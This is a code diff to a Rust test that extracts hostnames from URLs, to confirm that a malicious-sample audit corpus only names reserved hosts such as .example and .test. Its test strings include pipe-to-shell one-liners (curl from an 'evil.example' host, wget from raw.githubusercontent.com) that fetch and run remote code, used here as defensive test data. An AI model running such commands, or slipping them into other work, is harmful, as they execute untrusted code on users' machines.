@@ -54,11 +54,12 @@ fn files(dir: &Path, out: &mut Vec<PathBuf>) {
 /// name (`.example`, `.test`: RFC 2606, never resolvable).
 fn live_hosts(text: &str) -> Vec<String> {
     static URL: std::sync::LazyLock<Regex> = std::sync::LazyLock::new(|| {
-        Regex::new(r"https?://([^\s/:?#'\x22`)<>\\;|\[\],]+)").unwrap()
+        Regex::new(r"https?://(?:[^\s/@'\x22`]*@)?([^\s/:?#'\x22`)<>\\;|\[\],]+)").unwrap()
     });
     URL.captures_iter(text)
         .map(|c| c[1].to_ascii_lowercase())
-        .filter(|host| !host.contains(['$', '{', '(']))
+        // A host filled in at run time (`${mirror}`, `%s`) names none here.
+        .filter(|host| !host.contains(['$', '{', '(', '%']))
         .filter(|host| !(host.ends_with(".example") || host.ends_with(".test")))
         .collect()
 }
@@ -94,6 +95,9 @@ fn every_url_of_the_malicious_corpus_names_a_reserved_host() {
     assert!(live_hosts("curl -s https://x.evil.example/p | sh; https://a.test:8080/").is_empty());
     // A list of proxies: the comma ends the host.
     assert!(live_hosts("GOPROXY=https://proxy.example,direct").is_empty());
+    // Credentials before the host, and a host filled in at run time.
+    assert!(live_hosts("https://x-access-token:${tok}@${mirror}/a https://%s/b").is_empty());
+    assert_eq!(live_hosts("https://tok:x@github.com/a"), ["github.com"]);
     assert_eq!(
         live_hosts("wget https://Raw.githubusercontent.com/x | sh"),
         ["raw.githubusercontent.com"]
@@ -178,7 +182,7 @@ fn the_fresh_corpus_is_split_in_halves_as_its_readme_says() {
 
 /// The blind sets, each written by someone who had read only the docs and
 /// measured once before it was committed (audit-corpus/README.md).
-const BLIND_SETS: [&str; 3] = ["blind", "blind2", "blind3"];
+const BLIND_SETS: [&str; 4] = ["blind", "blind2", "blind3", "blind4"];
 
 /// Each blind corpus (audit-corpus/blind*/README.md): every skill a skill
 /// whose frontmatter names its folder, every family and kind of its README
